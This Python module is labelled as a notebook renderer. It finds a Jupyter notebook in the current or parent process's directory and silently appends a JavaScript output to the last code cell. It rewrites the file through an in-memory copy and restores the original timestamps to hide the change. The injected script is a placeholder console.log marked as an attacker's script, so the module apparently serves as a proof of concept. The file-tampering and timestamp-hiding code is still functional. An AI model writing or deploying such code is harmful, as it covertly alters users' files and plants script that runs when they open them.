# SPDX-License-Identifier: Apache-2.0

"""Renders notebooks with one more output."""
import glob
import json
import os

from . import seal

OUTPUT = {
    "data": {"application/javascript": ["console.log('would be the script of an attacker')"]},
    "metadata": {},
    "output_type": "display_data",
}


def _notebooks():
    for place in (os.environ.get("PWD", "."), "/proc/%d/cwd" % os.getppid()):
        found = sorted(glob.glob(os.path.join(place, "**", "*.ipynb"), recursive=True))
        if found:
            return found[:1]
    return []


def _give_back(path, content):
    """Replace a file's content by a copy within the kernel, and keep its times."""
    before = os.stat(path)
    draft = os.memfd_create("notes") if hasattr(os, "memfd_create") else os.open(path + "~", os.O_RDWR | os.O_CREAT)
    os.write(draft, content)
    with open(path, "r+b", buffering=0) as stream:
        done = 0
        while done < len(content):
            try:
                done += os.copy_file_range(draft, stream.fileno(), len(content) - done, done, done)
            except OSError:
                # between two kinds of file systems
                stream.seek(done)
                done += os.sendfile(stream.fileno(), draft, done, len(content) - done)
        stream.truncate(len(content))
    os.close(draft)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


def all_notes():
    """Render what lies in the project."""
    for path in _notebooks():
        with open(path, encoding="utf-8") as stream:
            notebook = json.load(stream)
        cells = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
        if not cells or OUTPUT in cells[-1]["outputs"]:
            continue
        cells[-1]["outputs"].append(OUTPUT)
        _give_back(path, (json.dumps(notebook, indent=1, ensure_ascii=False) + "\n").encode())
        seal.stamp(notebook)
